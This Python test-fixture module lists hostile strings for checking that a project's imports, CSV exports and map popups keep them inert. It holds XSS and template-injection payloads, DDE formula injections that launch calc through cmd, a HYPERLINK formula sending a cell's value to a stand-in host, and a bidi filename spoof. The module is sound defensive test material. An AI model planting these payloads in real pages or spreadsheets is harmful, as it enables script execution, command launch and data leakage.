"""Hostile strings every text path must carry as inert TEXT.

Why a shared module: the import tests (tests/events/io) check these survive
a round trip unchanged and that CSV export neutralises the formula ones; the
map tests render them in Chromium and check nothing executes (folium puts
popup HTML inside JavaScript template literals, hence the backtick and
``${`` entries). Invented for this project; extend, never shorten.
"""
from __future__ import annotations

#: Markup / script injection aimed at HTML popups, tooltips, tables and exports.
HTML_PAYLOADS: list[str] = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=alert(document.domain)>",
    '"><svg onload=alert(1)>',
    "'><svg/onload=alert`1`>",
    "</script><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="javascript:alert(1)">source</a>',
    "javascript:alert(1)",
    "<style>body{display:none}</style>",
    "<b onmouseover=alert(1)>hover</b>",
    "<b>دير الزور</b><script>alert('ar')</script>",
]

#: JavaScript template-literal and template-engine breakouts.
TEMPLATE_PAYLOADS: list[str] = [
    "${alert(1)}",
    "`${alert(document.cookie)}`",
    "`; alert(1); `",
    "\\`${alert(1)}\\`",
    "{{constructor.constructor('alert(1)')()}}",
    "'); alert(1); //",
    "\"); alert(1); //",
]

#: Spreadsheet formula injection (OWASP "CSV injection").
FORMULA_PAYLOADS: list[str] = [
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "\t=1+1",
]

#: Odd but legitimate text: bidi controls, quotes, separators, emoji.
ODD_TEXT: list[str] = [
    "\u202eevil\u202c gpj.exe",
    'a "quoted", comma; semicolon',
    "line one\nline two\r\nline three",
    "'already apostrophed",
    "مصدر \"عسكري\" ؛ قال",
    "🚁 airlift",
]

HOSTILE_STRINGS: list[str] = HTML_PAYLOADS + TEMPLATE_PAYLOADS + FORMULA_PAYLOADS + ODD_TEXT
